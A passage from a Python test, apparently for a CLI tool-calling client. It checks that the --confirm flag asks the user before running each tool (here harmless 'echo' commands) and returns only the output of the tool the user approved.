        connection.say({"toolCall": {"functionCalls": [{"id": "d", "name": "g"}]}})
        connection.receive()
        connection.answer(REPLY)
        connection.drain()

    with live_server(handle) as server:
        words = ["--base-url", server.url, "--tool", "f=echo 1", "--tool", "g=echo 2", "--confirm"]
        process, terminal = at_a_terminal(spawn, *words)
        read_until(terminal, "run f {}? [y/N] ")
        asked.touch()
        read_until(terminal, "run g {}? [y/N] ")
        os.write(terminal, b"y\n")
        read_until(terminal, "reply")
        process.communicate(timeout=20)
    os.close(terminal)
    assert process.returncode == 0
    assert responses(server) == {"d": {"output": 2}}
